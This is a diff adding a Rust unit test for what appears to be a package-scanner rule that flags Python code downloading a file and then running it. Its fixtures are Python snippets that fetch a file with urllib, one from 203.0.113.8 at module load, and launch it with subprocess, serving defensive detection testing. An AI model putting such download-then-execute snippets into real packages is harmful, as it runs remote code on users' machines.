@@ -451,3 +451,34 @@ fn deleting_user_folders_is_judged_by_when_it_runs() {
     // Only a definition of another function calls it: still only when asked.
     assert_eq!(level(&format!("{def}def clean():\n    wipe()\n")), Severity::Medium);
 }
+
+/// A download and a process start make download-then-run only where they
+/// meet: in one function, both while the module loads, or on one path.
+/// Apart, each when a caller asks, they are a medium note. Written for the
+/// test.
+#[test]
+fn a_download_and_a_process_count_together_only_where_they_meet() {
+    let level = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/tool.py", bytes: src.as_bytes() }]);
+        report.findings.iter().find(|f| f.rule == "download-then-run").map(|f| (f.severity, f.because.clone()))
+    };
+    let apart = "import subprocess, urllib.request\n\
+                 def fetch(url, dest):\n    urllib.request.urlretrieve(url, dest)\n\
+                 def build():\n    subprocess.check_call(['npm', 'run', 'build'])\n";
+    assert_eq!(level(apart).map(|l| l.0), Some(Severity::Medium));
+    // The same path handed to both: one act, even in two functions.
+    let path = "import subprocess, urllib.request\nTOOL = 'helper.exe'\n\
+                def fetch(url):\n    urllib.request.urlretrieve(url, TOOL)\n\
+                def start():\n    subprocess.Popen([TOOL])\n";
+    let (sev, because) = level(path).expect("found");
+    assert_eq!(sev, Severity::Critical);
+    assert!(because.iter().any(|b| b == "together: on the same path"), "{because:?}");
+    // Both called while the module loads.
+    let (sev, because) = level(&format!("{apart}fetch('http://203.0.113.8/x', 'x')\nbuild()\n")).expect("found");
+    assert_eq!(sev, Severity::Critical);
+    assert!(because.iter().any(|b| b.contains("both while the module loads")), "{because:?}");
+    // In one function.
+    let one = "import subprocess, urllib.request\ndef go(url):\n    \
+               urllib.request.urlretrieve(url, 'a.bin')\n    subprocess.Popen(['b'])\n";
+    assert_eq!(level(one).map(|l| l.0), Some(Severity::Critical));
+}
